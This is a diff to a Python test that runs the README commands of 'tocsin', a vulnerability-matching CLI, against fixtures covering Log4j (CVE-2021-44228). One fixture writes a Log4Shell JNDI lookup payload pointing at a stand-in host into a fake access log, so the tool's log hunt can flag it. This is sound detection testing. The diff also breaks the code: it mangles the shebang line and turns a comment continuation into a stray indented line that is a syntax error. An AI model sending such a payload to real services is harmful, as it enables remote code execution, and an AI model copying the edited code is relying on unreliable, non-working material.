@@ -1,4 +1,4 @@
-#!/usr/bin/env python3
+#!/ usr / bin / env python3
 """The commands of README.md as a reader types them, in its order: each block of code is run, and a command that this test does not know
 fails it. What a reader has to put in the place of "…", FILE and the like stands in PUT.
 
@@ -26,10 +26,12 @@ OSV = {"id": "TEST-1", "modified": "2026-01-01T00:00:00Z", "aliases": ["CVE-2021
     {"package": {"ecosystem": "npm", "name": "a"}, "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}, {"fixed": "2.0.0"}]}]}]}
 BOM = {"bomFormat": "CycloneDX", "specVersion": "1.5", "components": [
     {"type": "library", "name": "a", "version": "1.0.0", "purl": "pkg:npm/a@1.0.0"}]}
-FACTS = {"party": {"id": "acme", "roles": ["product_provider"], "country": "CN", "markets": ["CN"]}, "facts": []}
-# What a reader puts in, by the line as it stands there; its exit code (1: something was found), and what the answer must hold.
+FACTS = {"party": {"id": "acme", "roles": ["product_provider"], "country": "CN", "markets": ["CN"]}, "facts": [
+    {"fact": "awareness", "of": "vuln.in_own_product", "at": "2021-11-24T08:00:00Z"}]}
+#What a reader puts in, by the line as it stands there; \
+    its exit code(1 : something was found), and what the answer must hold.
 PUT = {
-    "tocsin regime due --facts case.json": ("tocsin regime due --facts case.json", 0, "["),
+    "tocsin regime due --facts case.json": ("tocsin regime due --facts case.json", 0, "cn.rmsv.art7"),
     "tocsin version compare maven 2.0-beta9 2.0": ("tocsin version compare maven 2.0-beta9 2.0", 0, "<"),
     "tocsin vers contains 'vers:npm/>=1.0|<2.0' 1.5": ("tocsin vers contains 'vers:npm/>=1.0|<2.0' 1.5", 0, "true"),
     "tocsin cvss CVSS:3.1/AV:N/…": ("tocsin cvss CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H", 0, "10"),
@@ -37,7 +39,7 @@ PUT = {
     "tocsin csaf validate FILE…": ("tocsin csaf validate csaf.json", 1, "/document"),
     "tocsin match bom.json": ("tocsin match bom.json --data data", 1, "CVE-2021-44228"),
     "tocsin inventory import --partner bank bom.json": ("tocsin inventory import --partner bank bom.json --data data", 0, "1 findings opened"),
-    "tocsin scan /srv --json": ("tocsin scan srv --json", 0, "findings"),
+    "tocsin scan /srv --json": ("tocsin scan srv --json", 0, '"files":1'),
     "tocsin hunt access.log.gz": ("tocsin hunt access.log.gz", 1, "jndi"),
     "tocsin impact CVE-2021-44228": ("tocsin impact CVE-2021-44228 --data data", 1, "bank / bom.json"),
 }
@@ -74,7 +76,7 @@ def server(folder, environment):
         done = typed(curl, folder, environment)
         answer = json.loads(done.stdout)
         check(answer["number"] and answer["status_url"] and answer["receipt"], f"the answer: {done.stdout[:300]}")
-        # The status page has both files to take away; the block then verifies them.
+#The status page has both files to take away; the block then verifies them.
         (folder / "receipt.tlog-proof").write_text(answer["receipt"], encoding="utf-8")
         (folder / "policy").write_bytes(urllib.request.urlopen(address + "/log/policy", timeout=5).read())
         done = typed(block("build/release/tocsin receipt verify"), folder, environment)
@@ -90,6 +92,7 @@ def without_server(folder, environment):
     for name, content in (("osv.json", OSV), ("bom.json", BOM), ("case.json", FACTS), ("csaf.json", {"document": {"csaf_version": "2.0"}})):
         (folder / name).write_text(json.dumps(content), encoding="utf-8")
     (folder / "srv").mkdir()
+    (folder / "srv" / "a.txt").write_text("nothing of Log4j", encoding="utf-8")
     typed(r"""printf '%s\n' '1.2.3.4 "GET /?x=${jndi:ldap://x.example/a} HTTP/1.1" 200' | gzip > access.log.gz""", folder, environment)
     lines = [re.split(r" {3,}", line)[0] for line in block("tocsin regime due").splitlines()]
     lines = [re.sub(r"  .*", "", line) for line in lines]
